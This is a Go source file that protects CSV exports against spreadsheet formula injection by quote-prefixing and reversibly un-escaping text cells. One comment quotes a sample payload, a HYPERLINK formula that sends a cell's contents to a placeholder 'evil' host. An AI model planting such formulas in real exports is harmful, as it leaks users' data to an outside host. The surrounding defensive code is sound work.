package csvbook

// Spreadsheet formula injection (OWASP "CSV Injection"): a spreadsheet
// opening the exported file runs a cell that starts with '=', '+', '-' or
// '@' (and, in some programs, tab or carriage return) as a formula, e.g. a
// contact named =HYPERLINK("http://evil/?"&A1). The Writer neutralises such
// text cells by prefixing a single quote, as OWASP recommends; the Reader
// removes that quote again, so the export reads back unchanged.
//
// To keep that reversible, a text whose formula character follows one or
// more quotes ("'=x") gets one more quote too ("''=x"), and the Reader
// strips one quote only from a cell whose rest still needs it. A quote
// before anything else is text and kept both ways ("'t Hooft").
//
// Number cells are never escaped: they are written "type:number" (they
// start with the type's letter) and hold only validated number characters.

// formulaStart reports whether a cell starting with b would be run as a
// formula.
func formulaStart(b byte) bool {
	switch b {
	case '=', '+', '-', '@', '\t', '\r':
		return true
	}
	return false
}

// needsEscape reports whether v, once any leading quotes are skipped,
// starts with a formula character.
func needsEscape(v string) bool {
	i := 0
	for i < len(v) && v[i] == '\'' {
		i++
	}
	return i < len(v) && formulaStart(v[i])
}

// escapeFormula returns v as the Writer puts it in a text cell.
func escapeFormula(v string) string {
	if needsEscape(v) {
		return "'" + v
	}
	return v
}

// unescapeFormula reverses escapeFormula for a text cell the Reader read.
func unescapeFormula(v string) string {
	if len(v) > 1 && v[0] == '\'' && needsEscape(v[1:]) {
		return v[1:]
	}
	return v
}
